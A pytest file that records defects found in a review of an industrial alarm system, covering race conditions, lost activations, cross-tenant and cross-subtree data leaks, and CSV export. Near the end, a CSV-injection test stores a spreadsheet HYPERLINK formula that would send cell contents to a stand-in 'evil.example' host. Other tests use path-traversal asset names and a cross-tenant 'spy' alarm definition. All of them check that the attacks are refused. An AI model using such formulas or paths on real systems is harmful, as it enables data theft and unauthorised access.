"""Review of the alarm system (issue 14): each test shows one defect found in review.

Every test here asserts the behaviour the issue and docs/alarms.md promise, and fails against
the code as reviewed; the docstring of each says which promise and where the fix goes.
Clauses: ISA-18.2-2016 / IEC 62682:2014 11.5 (every transition journaled; a new occurrence per
activation after clearing).
"""

from __future__ import annotations

import asyncio
import csv
import io
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from engine_helpers import ASSET, alarm_id, running_engine
from starlette.websockets import WebSocketDisconnect
from test_alarm_api import FLOW1, FLOW2, HI1, P1, P2, Plant, _settings, make_app_client, wait_for

from kiln.alarms.definitions import LimitAlarm, LimitDef
from kiln.alarms.notify.settings import NotificationSettings
from kiln.alarms.records import ALARMS_TARGET, AlarmRecord, JournalEntry
from kiln.alarms.store import AlarmStore, JournalQuery, StoredDefinition
from kiln.api.routers.alarms import csv_cell
from kiln.core.bus import Command, CommandError, CommandFailure
from kiln.core.values import ValueBatch
from kiln.db.urls import sqlite_url
from kiln.testing.auth import bearer_headers, user_headers

PASSWORD = "correct horse battery"


@pytest.fixture
def plant(tmp_path: Path) -> Iterator[Plant]:
    """The API test's plant: two pumps (P1, P2) with Hi/HiHi flow alarms, served over HTTP."""
    with make_app_client(_settings(tmp_path / "data")) as client:
        yield Plant(client, tmp_path / "data")


HOT = alarm_id("hot:hi")
HOT_DEF = {"kind": "limit", "name": "hot", "tag": "temp", "hi": {"value": 80}}


async def test_a_store_outage_does_not_lose_the_activation_for_good(tmp_path: Path) -> None:
    """A failed commit must not leave the evaluator ahead of the records: the alarm must still
    activate once the store is back and the value is still abnormal (issue 14: "nothing lost").
    Fix: engine.apply_batch/tick, on a commit failure, re-sync the evaluator with the records
    (or keep the pending changes and retry them)."""
    async with running_engine(tmp_path, HOT_DEF) as rig:
        real = rig.engine.store.commit
        failures = [0]

        def flaky(
            records: list[AlarmRecord], entries: list[JournalEntry], **kw: Any
        ) -> list[JournalEntry]:
            if not failures[0]:
                failures[0] += 1
                raise OSError("database is unreachable")
            return real(records, entries, **kw)

        rig.engine.store.commit = flaky  # type: ignore[method-assign]
        await rig.feed("temp", 90.0)  # the commit fails: the outage
        assert failures[0] == 1
        await rig.advance(1)
        await rig.feed("temp", 91.0)  # the store is back; the value is still over the limit
        await rig.advance(1)
        assert rig.record(HOT).state.process.value == "unacknowledged"
        assert [e.event for e in rig.journal(HOT)] == ["becomes_abnormal"]


async def test_stop_waits_for_a_commit_in_flight_before_closing_the_store(
    tmp_path: Path,
) -> None:
    """`stop` cancels the value task while its commit runs in a worker thread; the lock is
    released by the cancellation, so `store.close` runs while the commit is still writing (and
    a commit that then succeeds is never published). Fix: engine.stop: do not cancel a task
    holding the lock mid-commit (close the subscription, let the loop finish the batch under
    the lock, then cancel), or shield the commit+publish in `_commit`."""
    async with running_engine(tmp_path, HOT_DEF) as rig:
        store = rig.engine.store
        real_commit, real_close = store.commit, store.close
        entered, release = threading.Event(), threading.Event()
        committing = [False]
        closed_during_commit = [False]

        def slow(
            records: list[AlarmRecord], entries: list[JournalEntry], **kw: Any
        ) -> list[JournalEntry]:
            committing[0] = True
            entered.set()
            release.wait(10)
            try:
                return real_commit(records, entries, **kw)
            finally:
                committing[0] = False

        def close() -> None:
            closed_during_commit[0] |= committing[0]
            release.set()
            real_close()

        store.commit = slow  # type: ignore[method-assign]
        store.close = close  # type: ignore[method-assign]
        at = rig.now
        await rig.platform.bus.publish(
            ValueBatch(
                paths=[f"{ASSET}/temp"], values=[95.0], source_us=[at], qualities=[0], receive_us=at
            )
        )
        try:
            assert await asyncio.to_thread(entered.wait, 10)
            stopping = asyncio.create_task(rig.engine.stop())
            await asyncio.sleep(0.3)  # stop is waiting for the commit, not closing under it
            assert not stopping.done()
            release.set()
            await stopping
        finally:
            release.set()
        assert not closed_during_commit[0], "the store was closed under a running commit"
        store.open()  # the commit stop waited for is in the journal
        try:
            assert [e.event for e in store.journal(JournalQuery(ascending=True))] == [
                "becomes_abnormal"
            ]
        finally:
            real_close()


async def test_two_definitions_added_at_once_are_both_in_force(tmp_path: Path) -> None:
    """`define` reads the stored definitions, stores one, and redefines with its own list,
    without a lock: of two concurrent defines the later `redefine` drops the other's alarm
    (stored, yet not evaluated until a restart). Fix: engine.define/undefine: hold one
    `asyncio.Lock` (a definitions lock, not the engine lock `redefine` takes) around the
    read-put-redefine sequence, or let `redefine` re-read `store.definitions()` itself."""
    async with running_engine(tmp_path) as rig:

        async def define(name: str) -> Any:
            d = {"kind": "limit", "name": name, "tag": "temp", "hi": {"value": 80}}
            return await rig.command("define", asset=ASSET, definition=d, user="eng")

        await asyncio.gather(define("a"), define("b"))
        assert {s.definition.name for s in rig.engine.store.definitions()} == {"a", "b"}
        assert {alarm_id("a:hi"), alarm_id("b:hi")} <= set(rig.engine.specs)


async def test_an_alarm_defined_again_does_not_reuse_its_old_occurrence_numbers(
    tmp_path: Path,
) -> None:
    """Undefining an alarm deletes its record, so defining it again restarts at occurrence 1.
    The notifier keys runs and delivery ids on (alarm id, occurrence, event)
    (notify.model.AlarmInfo.run_id, delivery_id), so the new occurrence 1's notification gets
    the id of the old one and `NotificationStore.commit` drops it as already handled. Fix:
    engine._reconcile: keep occurrence numbering per alarm id across redefinitions (carry it
    in the journal: start a fresh record at max(occurrence) of its journal entries), or key
    the notifier's run_id on the journal seq of the activation."""
    async with running_engine(tmp_path) as rig:
        d = {"kind": "limit", "name": "warm", "tag": "temp", "hi": {"value": 50}}
        warm = alarm_id("warm:hi")
        await rig.command("define", asset=ASSET, definition=d, user="eng")
        await rig.feed("temp", 60.0)
        await rig.advance(1)
        undefine = Command(ALARMS_TARGET, "undefine", {"asset": ASSET, "name": "warm"})
        await rig.platform.bus.request(undefine, timeout_s=5)
        await rig.feed("temp", 20.0)
        await rig.advance(1)
        await rig.command("define", asset=ASSET, definition=d, user="eng")
        await rig.feed("temp", 61.0)
        await rig.advance(1)
        activations = [e.occurrence for e in rig.journal(warm) if e.event == "becomes_abnormal"]
        assert len(activations) == 2
        assert activations[0] != activations[1], "two occurrences share one number"


def test_an_engineer_cannot_alarm_on_a_tag_outside_their_subtree(plant: Plant) -> None:
    """PUT /alarms/definitions/{asset} checks only the asset; a definition's tag (or limit,
    set-point) given as a full path may name any tag of any subtree or tenant, whose values
    then show in the caller's alarm list and journal. Fix: api/routers/alarms.py `define`:
    refuse (404 as elsewhere) unless `who.sees(Permission.VALUES_READ, p)` for every tag path
    the definition names (resolve bare names against `asset`; `compile._tag_refs` lists them),
    and reject asset paths with empty or '.'/'..' segments (`validate_path`)."""
    engineer = user_headers(
        plant.client, plant.admin, "eng1", "engineer-pass-1", ["engineer"], scope=P1
    )
    r = plant.client.put(
        f"/api/v1/alarms/definitions/{P1}",
        json={"kind": "limit", "name": "spy", "tag": FLOW2, "hi": {"value": -1e9}},
        headers=engineer,
    )
    assert r.status_code in (400, 403, 404), r.text


@pytest.mark.parametrize("bad", [{"asset": 5}, {"asset": ["acme"]}])
async def test_a_malformed_journal_argument_is_invalid_not_a_failure(
    tmp_path: Path, bad: dict[str, Any]
) -> None:
    """A command argument of the wrong type must be answered INVALID (400), not FAILED (502)
    by a TypeError deep in the store. Fix: engine_commands._journal/_kpis/_definitions: read
    `asset` and `alarm_id` with a `_opt_str` helper that raises `_invalid(...)`."""
    async with running_engine(tmp_path, HOT_DEF) as rig:
        with pytest.raises(CommandError) as err:
            await rig.command("journal", **bad)
        assert err.value.kind is CommandFailure.INVALID


def test_another_tenants_engineer_sees_no_kpis_of_this_tenant(plant: Plant) -> None:
    """GET /alarms/kpis without `asset` passes for any tenant-wide reader and asks the engine
    for the KPIs of every alarm of the installation: another tenant's engineer reads this
    tenant's bad actors and alarm counts. Fix: api/routers/alarms.py `kpis`: when `asset` is
    None, check the tenant-wide grant is of the caller's own tenant (`g.tenant == who.tenant`)
    and compute over the caller's tenant roots only (`who.namespace.roots_of(who.tenant)`, one
    `kpis` command per root, or an `assets` list argument to the engine), never asset=None for
    a tenant that does not own every root."""
    admin = plant.admin
    r = plant.client.post(
        "/api/v1/tenants",
        headers=admin,
        json={
            "name": "other",
            "roots": ["globex"],
            "admin_username": "gx-admin",
            "admin_password": PASSWORD,
        },
    )
    assert r.status_code == 201, r.text
    gx_admin = bearer_headers(plant.client, "gx-admin", PASSWORD)
    gx = user_headers(plant.client, gx_admin, "gx-eng", PASSWORD, ["engineer"])
    plant.ingest(f"{P1}/flow", 90.0)
    plant.wait_state(f"{P1}/flow_limits:hi", "unacknowledged")
    got = plant.client.get("/api/v1/alarms/kpis", headers=gx)
    assert got.status_code in (200, 400, 404), got.text
    assert P1 not in got.text, "another tenant's alarms are in the KPIs"


async def test_an_api_definition_that_no_longer_compiles_does_not_stop_every_alarm(
    tmp_path: Path,
) -> None:
    """An alarm defined through the API whose tag the plant file no longer has (a renamed tag
    of the type) makes `compile_alarms` raise in `AlarmEngine.start`, so after the restart no
    alarm of the plant is evaluated at all. The subsystem's check compiles only the plant
    file's definitions, so nothing refuses this earlier. Fix: engine._compile at start: compile
    the stored definitions one by one against the declared ones, leave out (log, report in
    health as DEGRADED with the AlarmConfigError text) those that fail, instead of raising."""
    store = AlarmStore(sqlite_url(tmp_path / "alarms.db"))
    store.open()
    gone = LimitAlarm(name="press", tag="pressure", hi=LimitDef(value=5.0))
    store.put_definition(StoredDefinition(ASSET, gone, "eng", 0))
    store.close()
    async with running_engine(tmp_path, HOT_DEF) as rig:
        await rig.feed("temp", 90.0)
        await rig.advance(1)
        assert rig.record(HOT).state.process.value == "unacknowledged"


async def test_one_non_scalar_value_does_not_sink_the_whole_batch(tmp_path: Path) -> None:
    """`Evaluator.evaluate` runs `np.asarray(batch.values)`, which raises on a ragged batch (a
    list value from a connector's JSON): every other point of the batch (and, with the
    working tree's `apply_batches`, of every batch drained with it) goes unevaluated, and the
    detectors of batches evaluated before it in the same call have already moved on. Fix:
    evaluate.Evaluator.evaluate: build `values` with `np.fromiter((_number(v) for v in
    batch.values), np.float64, count=len(batch))` when `np.asarray` fails or gives dtype
    object (as `_number` already maps anything non-numeric to NaN)."""
    async with running_engine(tmp_path, HOT_DEF) as rig:
        at = rig.now
        batch = ValueBatch(
            paths=[f"{ASSET}/temp", f"{ASSET}/state"],
            values=[95.0, [1, 2]],  # type: ignore[list-item]
            source_us=[at, at],
            qualities=[0, 0],
            receive_us=at,
        )
        await rig.engine.apply_batch(batch)
        assert rig.record(HOT).state.process.value == "unacknowledged"


def test_a_line_scoped_engineer_sees_no_deliveries_of_other_subtrees(tmp_path: Path) -> None:
    """GET /alarms/notifications (and POST .../retry) need only system:read, which a scoped
    grant covers for a path-less route, and the notifier answers every delivery: a line's
    engineer (or another tenant's) reads all alarms' messages and recipients' addresses, and
    re-sends anyone's dead letters. Fix: api/routers/alarms.py `deliveries`: keep only
    deliveries whose alarms' assets (`asset_of` of each alarm id) the caller `sees` with
    values:read; `retry_delivery`: fetch the delivery first, 404 unless visible, and require
    alarms:ack (an action), not system:read."""
    notes = NotificationSettings.model_validate(
        {
            "users": [{"name": "ops", "webhook": "http://127.0.0.1:9/x", "channels": ["webhook"]}],
            "pipelines": [
                {"name": "all", "subtree": "acme/site1", "on": "activation",
                 "blocks": [{"kind": "notify", "users": ["ops"]}]},
            ],
        }
    )  # fmt: skip
    settings = _settings(tmp_path / "data").model_copy(update={"notifications": notes})
    with make_app_client(settings) as client:
        plant = Plant(client, tmp_path / "data")
        plant.ingest(FLOW2, 90.0)

        def listed(headers: dict[str, str]) -> list[dict[str, Any]]:
            r = client.get("/api/v1/alarms/notifications", headers=headers)
            assert r.status_code in (200, 403, 404), r.text
            return list(r.json().get("deliveries", [])) if r.status_code == 200 else []

        wait_for(lambda: listed(plant.admin))
        engineer = user_headers(client, plant.admin, "eng1", PASSWORD, ["engineer"], scope=P1)
        assert P2 not in str(listed(engineer)), "deliveries of another subtree are listed"


def test_a_pipeline_may_cover_a_whole_enterprise_subtree() -> None:
    """`PipelineSettings.subtree` is checked with `validate_path`, the *tag* path rule (two
    segments at least), so `subtree: acme` (every alarm of the enterprise, the plain case of
    "pipelines by subtree") is refused. Fix: notify/settings.py PipelineSettings._path: check
    the segments only (non-empty, no '.'/'..'; the asset-path rule of kiln.model), allowing one
    segment."""
    notes = NotificationSettings.model_validate(
        {
            "users": [{"name": "ops", "webhook": "http://127.0.0.1:9/x"}],
            "pipelines": [
                {"name": "all", "subtree": "acme", "blocks": [{"kind": "notify", "users": ["ops"]}]}
            ],
        }
    )
    assert notes.pipelines[0].subtree == "acme"


# -- the API layer's fixes, beyond the review's own tests ---------------------------------


def _notifying_client(data: Path) -> Any:
    """The API test's plant with one webhook pipeline over site1 (every pump's alarms)."""
    notes = NotificationSettings.model_validate(
        {
            "users": [{"name": "ops", "webhook": "http://127.0.0.1:9/x", "channels": ["webhook"]}],
            "pipelines": [
                {"name": "all", "subtree": "acme/site1", "on": "activation",
                 "blocks": [{"kind": "notify", "users": ["ops"]}]},
            ],
        }
    )  # fmt: skip
    return make_app_client(_settings(data).model_copy(update={"notifications": notes}))


def test_a_delivery_is_retried_only_by_who_may_act_on_its_alarms(tmp_path: Path) -> None:
    """POST .../retry: 404 for a delivery of another subtree (as if it did not exist), 403
    without alarms:ack or system:read; a visible one reaches the notifier (which refuses it
    here as it is no dead letter yet: proof the lookup by id found it)."""
    with _notifying_client(tmp_path / "data") as client:
        plant = Plant(client, tmp_path / "data")
        plant.ingest(FLOW2, 90.0)

        def p2_deliveries() -> list[dict[str, Any]]:
            r = client.get("/api/v1/alarms/notifications", headers=plant.admin)
            assert r.status_code == 200, r.text
            return [d for d in r.json()["deliveries"] if d["alarm_id"].startswith(P2)]

        delivery = wait_for(p2_deliveries)[0]["id"]
        url = f"/api/v1/alarms/notifications/{delivery}/retry"
        line1 = user_headers(client, plant.admin, "eng1", PASSWORD, ["engineer"], scope=P1)
        hidden = client.post(url, headers=line1)
        assert hidden.status_code == 404, hidden.text
        assert P2 not in hidden.text
        operator = user_headers(client, plant.admin, "op", PASSWORD, ["operator"])
        assert client.post(url, headers=operator).status_code == 403  # no system:read
        auditor = user_headers(client, plant.admin, "aud", PASSWORD, ["auditor"])
        assert client.post(url, headers=auditor).status_code == 403  # no alarms:ack
        assert client.post(url.replace(delivery, "nope"), headers=plant.admin).status_code == 404
        visible = client.post(url, headers=plant.admin)
        assert visible.status_code == 400 and "dead letter" in visible.text, visible.text


def test_a_definition_is_refused_for_a_bad_asset_path_or_an_unreadable_setpoint(
    plant: Plant,
) -> None:
    """PUT /alarms/definitions/{asset}: the asset path's segments are checked (one segment,
    an enterprise, is an asset); every tag read, the set-point included, needs values:read;
    bare names resolve under the asset, which the engineer may read."""
    engineer = user_headers(plant.client, plant.admin, "eng1", PASSWORD, ["engineer"], scope=P1)
    own = {"kind": "limit", "name": "own", "tag": "flow", "hi": {"value": 50}}
    r = plant.client.put(f"/api/v1/alarms/definitions/{P1}", json=own, headers=engineer)
    assert r.status_code == 200, r.text
    spy = {
        "kind": "deviation", "name": "spy", "tag": "flow", "setpoint": f"{P2}/setpoint",
        "high": 5.0,
    }  # fmt: skip
    r = plant.client.put(f"/api/v1/alarms/definitions/{P1}", json=spy, headers=engineer)
    assert r.status_code == 404, r.text
    for bad in ("acme/%2E%2E/acme", "acme//site1", ".hidden", "acme/-x"):
        r = plant.client.put(f"/api/v1/alarms/definitions/{bad}", json=own, headers=plant.admin)
        assert r.status_code == 400 and "asset path" in r.json()["detail"], (bad, r.text)
    r = plant.client.put("/api/v1/alarms/definitions/acme", json=own, headers=plant.admin)
    assert r.status_code == 200, r.text


def test_kpis_without_an_asset_need_a_tenant_of_one_subtree(plant: Plant) -> None:
    """The default tenant holds "*": once another tenant owns `globex`, "every alarm" would
    count that tenant's too, so the KPIs need an asset (400 saying so); with one they work."""
    r = plant.client.post(
        "/api/v1/tenants",
        headers=plant.admin,
        json={"name": "other", "roots": ["globex"], "admin_username": "gx-admin",
              "admin_password": PASSWORD},
    )  # fmt: skip
    assert r.status_code == 201, r.text
    refused = plant.client.get("/api/v1/alarms/kpis", headers=plant.admin)
    assert refused.status_code == 400 and "asset=" in refused.json()["detail"]
    r = plant.client.get("/api/v1/alarms/kpis", params={"asset": "acme"}, headers=plant.admin)
    assert r.status_code == 200, r.text


def test_a_failed_live_subscription_gives_its_connection_slot_back(
    plant: Plant, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The alarm event subscription fails after the value one was made: the client is told
    (1011), the value subscription is closed and the slot is free again."""
    app = plant.client.app
    bus = app.state.platform.bus  # type: ignore[attr-defined]

    def refuse(*args: Any, **kwargs: Any) -> Any:
        raise OSError("the bus is unreachable")

    monkeypatch.setattr(bus, "subscribe_events", refuse)
    live = plant.client.websocket_connect("/api/v1/live", headers=plant.admin)
    with live as ws, pytest.raises(WebSocketDisconnect) as closed:
        ws.receive_json()
    assert closed.value.code == 1011
    assert app.state.live_connections == 0  # type: ignore[attr-defined]
    assert not [s for s in bus.subscriptions if s.name.startswith("live#")]


@pytest.mark.parametrize(
    ("cell", "exported"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("seen, called maintenance", "seen, called maintenance"),
        (-5.0, -5.0),
        (3, 3),
        (None, ""),
    ],
)
def test_a_csv_cell_is_never_a_formula(cell: Any, exported: Any) -> None:
    """OWASP "CSV Injection": text starting with =, +, -, @, tab or CR runs as a formula in a
    spreadsheet; it is exported with a leading quote. Numbers (a negative value) stay numbers."""
    assert csv_cell(cell) == exported


def test_a_journal_comment_exports_as_text_not_a_formula(plant: Plant) -> None:
    """A comment (anyone with alarms:ack writes one) reaches the CSV export as text."""
    plant.ingest(FLOW1, 90.0)
    plant.wait_state(HI1, "unacknowledged")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    r = plant.client.post(
        f"/api/v1/alarms/{HI1}/comment", json={"comment": formula}, headers=plant.admin
    )
    assert r.status_code == 200, r.text
    text = plant.client.get(
        "/api/v1/alarms/journal", params={"alarm": HI1, "format": "csv"}, headers=plant.admin
    ).text
    rows = list(csv.DictReader(io.StringIO(text)))
    [row] = [r for r in rows if r["event"] == "comment"]
    assert row["comment"] == "'" + formula
    [activation] = [r for r in rows if r["event"] == "becomes_abnormal"]
    assert float(activation["value"]) == 90.0
